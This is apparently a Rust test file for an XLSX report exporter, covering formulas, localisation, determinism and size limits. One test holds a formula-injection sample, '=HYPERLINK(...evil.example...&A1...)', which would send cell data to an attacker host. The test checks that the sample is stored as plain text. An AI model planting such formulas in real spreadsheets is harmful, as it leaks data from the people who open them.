//! The report as a workbook.

use std::collections::HashMap;
use std::io::Read;

use super::forms::bytes;
use super::*;
use crate::domain::locale::Locale;
use crate::report::xlsx::{XLSX_ROWS_MAX, workbook};
use crate::report::{Cell, Column, Options, ReportError, ReportFormat};
use crate::views::daily::DAILY;
use crate::views::table_words::table_words;

/// The parts of a zip archive, by its central directory.
pub(super) fn unzip(zip: &[u8]) -> HashMap<String, String> {
    let u16_at = |at: usize| usize::from(u16::from_le_bytes([zip[at], zip[at + 1]]));
    let u32_at = |at: usize| u16_at(at) + (u16_at(at + 2) << 16);
    let end = zip.windows(4).rposition(|w| w == b"PK\x05\x06").unwrap();
    let (count, mut at) = (u16_at(end + 10), u32_at(end + 16));
    let mut parts = HashMap::new();
    for _ in 0..count {
        assert_eq!(&zip[at..at + 4], b"PK\x01\x02");
        let (size, local) = (u32_at(at + 20), u32_at(at + 42));
        let name = String::from_utf8(zip[at + 46..at + 46 + u16_at(at + 28)].to_vec()).unwrap();
        let data = local + 30 + u16_at(local + 26) + u16_at(local + 28);
        let mut text = String::new();
        flate2::read::DeflateDecoder::new(&zip[data..data + size])
            .read_to_string(&mut text)
            .unwrap();
        parts.insert(name, text);
        at += 46 + u16_at(at + 28) + u16_at(at + 30) + u16_at(at + 32);
    }
    parts
}

#[test]
fn the_workbook_holds_every_cell_and_not_one_formula() {
    let rows: Vec<ShownRow> = plain_rows().into_iter().chain(hostile_rows()).collect();
    let xlsx = bytes(&rows, ReportFormat::Xlsx, Options::default());
    let parts = unzip(&xlsx);
    let sheet = &parts["xl/worksheets/sheet1.xml"];
    assert!(
        !sheet.contains("<f>") && !sheet.contains("<f "),
        "a formula"
    );
    assert!(!sheet.contains("<hyperlink"));
    assert_eq!(sheet.matches("<row ").count(), rows.len() + 1);
    let built = DAILY.iter().filter(|daily| daily.is_built()).count();
    assert_eq!(sheet.matches("<c ").count(), (rows.len() + 1) * built);
    assert!(sheet.contains("state=\"frozen\"") && sheet.contains("ySplit=\"1\""));
    assert!(sheet.contains("<v>1234567.89</v>"), "money in yuan");
    assert!(
        sheet.contains("<v>46173</v>"),
        "the day as a sheet counts days"
    );
    let texts = &parts["xl/sharedStrings.xml"];
    assert!(texts.contains("=HYPERLINK(\"http://evil.example/?\"&amp;A1,\"点我\")"));
    assert!(
        [">离网率<", ">出账金额(元)<", ">超限<", ">是<"]
            .iter()
            .all(|word| texts.contains(word)),
        "{texts}"
    );
    assert!(!texts.chars().any(|c| c.is_control() && c != '\n') && !texts.contains("_x00"));
    assert!(
        parts["xl/styles.xml"].contains("FFFFC7CE"),
        "over-limit cells are coloured"
    );
}

#[test]
fn a_workbook_is_in_one_language_its_readers() {
    let texts = |locale| {
        let options = Options {
            words: table_words(locale),
            ..Options::default()
        };
        let xlsx = bytes(&plain_rows(), ReportFormat::Xlsx, options);
        let mut parts = unzip(&xlsx);
        parts.remove("xl/sharedStrings.xml").expect("texts")
    };
    let (zh, en) = (texts(Locale::ZhCn), texts(Locale::En));
    for (word, code) in [
        (">层级<", ">scope<"),
        (">集团<", ">group<"),
        (">离网率<", ">churn rate<"),
    ] {
        assert!(zh.contains(word) && !zh.contains(code), "{zh}");
        assert!(en.contains(code) && !en.contains(word), "{en}");
    }
}

#[test]
fn equal_rows_make_equal_workbooks() {
    assert_eq!(
        bytes(&plain_rows(), ReportFormat::Xlsx, Options::default()),
        bytes(&plain_rows(), ReportFormat::Xlsx, Options::default())
    );
}

#[test]
fn a_workbook_refuses_more_rows_than_it_can_hold_and_cuts_what_no_cell_holds() {
    let columns = [Column::text("a", "甲")];
    let too_many = vec![[Cell::Null]; XLSX_ROWS_MAX + 1];
    assert!(matches!(
        workbook(
            "表",
            &columns,
            too_many.iter(),
            0,
            table_words(Locale::ZhCn)
        ),
        Err(ReportError::TooManyRows { rows: 100_001, .. })
    ));
    let long = "😀".repeat(20_000);
    let parts = unzip(
        &workbook(
            "表",
            &columns,
            [[Cell::from(long.as_str())]].iter(),
            0,
            table_words(Locale::ZhCn),
        )
        .unwrap(),
    );
    assert_eq!(parts["xl/sharedStrings.xml"].matches('😀').count(), 16_383);
}
